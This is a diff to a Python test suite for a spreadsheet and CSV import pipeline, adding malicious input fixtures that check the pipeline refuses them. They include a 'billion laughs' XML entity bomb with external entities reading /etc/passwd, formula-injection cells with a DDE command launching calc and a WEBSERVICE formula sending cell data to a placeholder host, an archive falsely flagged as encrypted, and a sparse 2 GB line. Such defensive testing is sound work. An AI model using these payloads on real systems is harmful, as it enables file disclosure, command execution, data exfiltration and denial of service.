@@ -9,6 +9,7 @@ import gzip
 import io
 import json
 import struct
+import tempfile
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -18,6 +19,7 @@ import pyarrow.parquet as pq
 import pytest
 from openpyxl import Workbook
 from rich.console import Console
+from workbooks import write_ods
 
 from pipelines.exports import find_exports
 from pipelines.quarter import Options, run_quarter
@@ -40,6 +42,16 @@ ENTITIES = (
     + '"><!ENTITY c "'
     + "&b;" * 10
     + '"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
+)
+
+# Ten thousand million letters, if anybody wrote them out.
+LAUGHS = (
+    '<!DOCTYPE x [<!ENTITY l0 "aaaaaaaaaa">'
+    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+    + '<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
+)
+FORMULAS = build.lines(
+    build.dossiers(3, status="=cmd|' /C calc'!A0", field='=WEBSERVICE("http://thu.example/"&B2)')
 )
 
 
@@ -78,6 +90,23 @@ def sheet_with(old: bytes, new: bytes) -> bytes:
         return xml.replace(old, new, 1)
 
     return with_part("xl/worksheets/sheet1.xml", change)
+
+
+def ods_with(change: Callable[[bytes], bytes]) -> bytes:
+    """A good .ods, the content of which is changed."""
+    with tempfile.TemporaryDirectory() as folder:
+        path = write_ods(Path(folder, "a.ods"), {"x": LIST})
+        with zipfile.ZipFile(path) as good:
+            parts = {name: good.read(name) for name in good.namelist()}
+    return zip_bytes(parts | {"content.xml": change(parts["content.xml"])})
+
+
+def locked_zip() -> bytes:
+    """An archive whose one member states that it is encrypted."""
+    content = bytearray(zip_bytes({"a.csv": csv_bytes()}))
+    content[6] |= 1
+    content[content.index(b"PK\x01\x02") + 8] |= 1
+    return bytes(content)
 
 
 def far_cell(row: int, column: str) -> bytes:
@@ -181,6 +210,25 @@ FILES: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: ENTITIES.replace("x [", "html [").encode() + page(page_rows().replace("Hộ tịch", "&c;&f;")),
         READ_RIGHT,
     ),
+    "laughs.xlsx": (
+        lambda: with_part(
+            "xl/worksheets/sheet1.xml", lambda xml: LAUGHS.encode() + xml.replace(b"<v>1<", b"<v>&l9;<")
+        ),
+        "không mở được|3 dossiers",
+    ),
+    "laughs.ods": (
+        lambda: ods_with(
+            lambda xml: xml.replace(b"?>", b"?>" + LAUGHS.encode(), 1).replace("Hộ tịch".encode(), b"&l9;&f;")
+        ),
+        "không mở được|3 dossiers",
+    ),
+    "laughs.xls": (
+        lambda: LAUGHS.replace("x [", "html [").encode() + page(page_rows().replace("Hộ tịch", "&l9;&f;")),
+        READ_RIGHT,
+    ),
+    "formulas.xlsx": (lambda: xlsx_bytes(FORMULAS), READ_RIGHT),
+    "formulas.csv": (lambda: csv_bytes(FORMULAS), READ_RIGHT),
+    "locked.zip": (locked_zip, "có mật khẩu"),
     "declared.xlsx": (lambda: sheet_with(b'ref="A1:O4"', b'ref="A1:XFD1048576"'), READ_RIGHT),
     "far.xlsx": (lambda: far_cell(1048576, "XFD"), "ô ở quá xa|bộ nhớ"),
     "far-row.xlsx": (lambda: far_cell(1048576, "CV"), "ô ở quá xa|bộ nhớ"),
@@ -274,6 +322,20 @@ def test_a_file_that_takes_too_long_is_given_up(
     results = stage_many(files, tmp_path / "staging", frozenset(), lambda name: None)
     assert said(results["good.csv"]) == READ_RIGHT
     assert "đọc quá 6 giây" in said(results["slow.xls"])
+
+
+def test_a_line_of_two_gigabytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """After good rows, so that only reading it all can tell; its bytes take no room on the disk."""
+    monkeypatch.setenv("IGATE_MAX_FILE_MEMORY_MB", "1000")
+    (tmp_path / "raw").mkdir()
+    with (tmp_path / "raw" / "line.csv").open("wb") as file:
+        file.write(csv_bytes(build.lines(build.dossiers(20_000))))
+        file.truncate(file.tell() + (2 << 30))
+    (tmp_path / "raw" / "good.csv").write_bytes(csv_bytes())
+    files = find_exports(Workspace(tmp_path)).files
+    results = stage_many(files, tmp_path / "staging", frozenset(), lambda name: None)
+    assert said(results["good.csv"]) == READ_RIGHT
+    assert "dòng dài quá" in said(results["line.csv"])
 
 
 @pytest.mark.parametrize("wrong", ["0", "-1", "nhiều", "1.5"])
